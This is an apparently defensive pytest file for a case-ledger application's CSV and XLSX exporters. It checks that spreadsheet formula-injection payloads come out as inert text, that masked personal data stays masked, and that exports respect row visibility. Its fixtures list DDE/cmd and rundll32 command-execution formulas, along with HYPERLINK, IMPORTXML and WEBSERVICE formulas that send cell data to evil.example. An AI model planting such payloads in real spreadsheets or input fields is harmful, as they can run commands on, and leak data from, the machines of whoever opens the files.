"""SAFEGUARDS 13: formula payloads through every exporter come out as text; what is no formula stays as it was."""

import csv
import io
import itertools
import re
import zipfile
from collections.abc import Iterator
from typing import Any
from unittest.mock import patch

import pytest
from python_calamine import CalamineWorkbook

from huhang.base.access.context import acting
from huhang.cases.models import Case
from huhang.reading import exports
from huhang.reading.exports import Heading, Sheet, inert, written
from huhang.reading.ledger import Line
from huhang.reading.rules import LEDGER
from tests.factories.city import NOW, City, filed, make_city

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u3000=",
    "\u200b=",
    "\ufeff=",
    "\x0b=",
    "＝",
    "＋",
    "－",
    "＠",
    "﹢",
    "﹣",
)
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"a")',
    "2+5+cmd|' /C calc'!A0",
    "A1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "(1)",
)
PAYLOADS = [a + b for a, b in itertools.product(STARTS, BODIES)]
STAYS = (
    "-5",
    "+5",
    "-5.25",
    "-1,284",
    "+12%",
    "+8613800000001",
    "+86 138 0000 0001",
    "5-3",
    "HS-7QK4-2M9D",
    "噪声=扰民",
    "",
    "'=x",
)
LIVE = re.compile(r"^[\s\u200b\ufeff\x0b]*[=+\-@＝＋－＠﹢﹣]")


def a_sheet() -> Sheet:
    return Sheet("诉求台账", (Heading("编号", 10), Heading("标题", 30), Heading("来自", 10)), (("筛选", "=1+1"),))


def lines(texts: list[str]) -> Iterator[Line]:
    for n, text in enumerate(texts):
        yield Line(*[f"{n}" if f == "number" else text if f in ("title", "from_label") else None for f in Line._fields])


def made(form: str, texts: list[str]) -> bytes:
    with patch.object(exports, "every", lambda *a, **k: lines(texts)):
        out = written(form, a_sheet(), None, LEDGER, lambda x: [x.number, x.title, x.from_label], now=NOW)  # type: ignore[arg-type]
        return out.file.read()


def rows_of_csv(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf"), "spreadsheets know UTF-8 by its mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 200


def test_no_payload_is_a_formula_in_csv() -> None:
    rows = rows_of_csv(made("csv", PAYLOADS))[1:]
    assert len(rows) == len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        assert not any(LIVE.match(cell) for cell in row), row
        assert row[1] == f"'{payload}"


def test_no_payload_is_a_formula_in_a_workbook() -> None:
    raw = made("xlsx", PAYLOADS)
    with zipfile.ZipFile(io.BytesIO(raw)) as parts:
        sheets = [n for n in parts.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            xml = parts.read(name).decode()
            assert not re.search("<f[ >]", xml), name
            assert "hyperlink" not in xml, name
        assert not [n for n in parts.namelist() if "external" in n.lower() or "vba" in n.lower()]
    table = CalamineWorkbook.from_filelike(io.BytesIO(raw)).get_sheet_by_index(0).to_python()
    assert len(table) == len(PAYLOADS) + 1
    for row, payload in zip(table[1:], PAYLOADS, strict=True):
        assert _same(str(row[1]), payload), (row, payload)


def _same(read: str, sent: str) -> bool:
    """A workbook keeps text; readers differ in how they give back a carriage return and other controls."""
    controls = re.compile(r"_x00[0-9A-Fa-f]{2}_|[\x00-\x1f]")
    return controls.sub("", read) == controls.sub("", sent)


@pytest.mark.parametrize("text", STAYS)
def test_what_is_no_formula_comes_out_as_it_went_in(text: str) -> None:
    assert inert(text) == text
    assert rows_of_csv(made("csv", [text]))[1][1] == text
    table = CalamineWorkbook.from_filelike(io.BytesIO(made("xlsx", [text, "末"]))).get_sheet_by_index(0).to_python()
    assert table[1][1] == text


def test_a_phone_number_with_arithmetic_in_it_is_not_plain() -> None:
    assert inert("+86-138-0000-0001") == "'+86-138-0000-0001"


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_file_that_is_cut_says_so(form: str) -> None:
    with patch.object(exports, "MOST", 3):
        raw = made(form, ["一件", "两件", "三件", "四件"])
    if form == "csv":
        rows = rows_of_csv(raw)
        assert [r[1] for r in rows[1:4]] == ["一件", "两件", "三件"]
        assert "只导出了前 3 行" in rows[4][0]
        assert len(rows) == 5
    else:
        book = CalamineWorkbook.from_filelike(io.BytesIO(raw))
        assert len(book.get_sheet_by_index(0).to_python()) == 4
        assert any("只导出了前 3 行" in str(r[1]) for r in book.get_sheet_by_index(1).to_python())


@pytest.fixture
def city(db: None) -> City:
    return make_city()


def test_what_is_masked_on_the_page_is_masked_in_the_file(city: City) -> None:
    from huhang.doors.desk.lists.export import cells, headings

    filed(city, name="欧阳娜娜", phone="13911112222")
    actor = city.actor("dispatcher")
    with acting(actor):
        out = written("csv", Sheet("台账", headings()), actor, LEDGER, cells, now=NOW)
        raw = out.file.read().decode("utf-8-sig")
    assert "欧阳娜娜" not in raw
    assert "13911112222" not in raw
    assert Case.objects.get().from_label in raw
    assert out.count == 1


@pytest.mark.parametrize("who", ["dispatcher", "chief", "leader"])
def test_a_file_holds_exactly_the_rows_one_may_see(city: City, who: str) -> None:
    from huhang.base.access.queries import visible_to
    from huhang.doors.desk.lists.export import cells, headings

    for n in range(4):
        filed(city, "liaison" if n % 2 else "clerk", title=f"第{n}件")
    actor: Any = city.actor(who)
    with acting(actor):
        out = written("csv", Sheet("台账", headings()), actor, LEDGER, cells, now=NOW)
        numbers = {row[0] for row in rows_of_csv(out.file.read())[1:]}
        assert numbers == set(visible_to(actor, Case.objects.all()).values_list("number", flat=True))
